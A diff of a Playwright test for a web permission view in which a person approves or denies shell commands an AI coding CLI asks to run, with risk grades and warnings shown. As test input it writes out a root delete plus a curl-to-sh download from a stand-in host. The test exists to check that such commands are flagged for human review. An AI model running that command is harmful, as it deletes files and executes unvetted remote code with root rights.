@@ -134,18 +134,23 @@ test.describe('permission view', () => {
     expect(await page.getByTestId('pv-part').locator('code').allTextContents()).toEqual(['npm test', 'sudo rm -rf dist', 'curl -s https://x.example/i.sh', 'sh']);
     expect(await page.getByTestId('pv-mark').allTextContents()).toEqual([
       'runs as root (sudo)',
-      'deletes folders and all they hold (rm -r)',
+      'deletes a build folder (rm -r)',
       'deletes without asking (rm -f)',
       'uses the network (curl)',
       'runs what comes through the pipe as a script (sh)',
     ]);
     expect(await contrastOf(page, '.pv-mark')).toBeGreaterThanOrEqual(4.5);
+    // The request's risk grade and its reasons, above the parts (issue 31 §2).
+    await expect(page.getByTestId('pv-risk')).toHaveAttribute('data-grade', 'high');
+    await expect(page.getByTestId('pv-risk')).toContainText('Risk: high');
+    await expect(page.getByTestId('pv-risk')).toContainText('runs as root (sudo)');
     await page.screenshot({ path: shotPath('permission-command-light.png'), fullPage: true });
     await page.getByTestId('answer-no').click();
     expect((await decided).decision).toBe('deny');
 
-    // Neither answer: the gate is dismissed and the CLI's own dialog asks (the hook answers "ask").
-    const dismissed = await raiseHook(hub, 'qwen', { tool_name: 'run_shell_command', tool_input: { command: 'ls' }, cwd: dir });
+    // Neither answer: the gate is dismissed and the CLI's own dialog asks (the hook answers "ask"). A script (risk
+    // medium) reaches the person; a read such as `ls` would be allowed by its low grade with no gate.
+    const dismissed = await raiseHook(hub, 'qwen', { tool_name: 'run_shell_command', tool_input: { command: 'npm test' }, cwd: dir });
     await page.goto(choiceUrl(hub.baseUrl, hub.token, dismissed.id));
     await page.getByTestId('cancel').click();
     expect(await dismissed.decided).toMatchObject({ decision: 'ask', decided_by: { text: 'the person (web): dismissed' } });
